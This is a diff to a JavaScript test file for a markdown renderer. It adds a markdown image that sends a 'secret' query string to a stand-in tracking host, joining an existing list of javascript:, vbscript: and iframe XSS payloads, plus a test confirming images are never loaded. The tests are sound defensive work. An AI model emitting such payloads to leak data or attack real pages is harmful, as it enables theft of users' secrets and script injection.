@@ -438,6 +438,7 @@ const PAYLOADS = [
   "<a href=\"javascript:alert(1)\">a</a>",
   "[w](vbscript:msgbox(1))",
   "<iframe src=\"javascript:alert(1)\"></iframe>",
+  "![t](https://track.example/p.png?q=secret)",
 ];
 const ALL = PAYLOADS.join("\n\n");
 
@@ -516,6 +517,16 @@ test("markdown links: only safe schemes survive, and open in a new tab", () => {
   const hrefs = [...container.querySelectorAll("a")].map((a) => a.getAttribute("href"));
   assert.deepEqual(hrefs, ["https://a.example", "mailto:x@y.z", "https://auto.example"]);
   for (const a of container.querySelectorAll("a")) assert.equal(a.getAttribute("rel"), "noopener noreferrer");
+});
+
+test("markdown images are never loaded: their alt text stands in", () => {
+  const { view, container } = makeView();
+  view.render({
+    status: "complete",
+    items: [{ i: 0, kind: "text", status: "done", text: "see ![a *chart* <b>](https://track.example/p.png?q=secret) and ![dot](" + PNG + ")" }],
+  });
+  assert.equal(container.querySelectorAll("img").length, 0);
+  assert.equal(container.querySelector(".mmsp-text p").textContent, "see a chart <b> and dot");
 });
 
 test("destroy removes the view", () => {
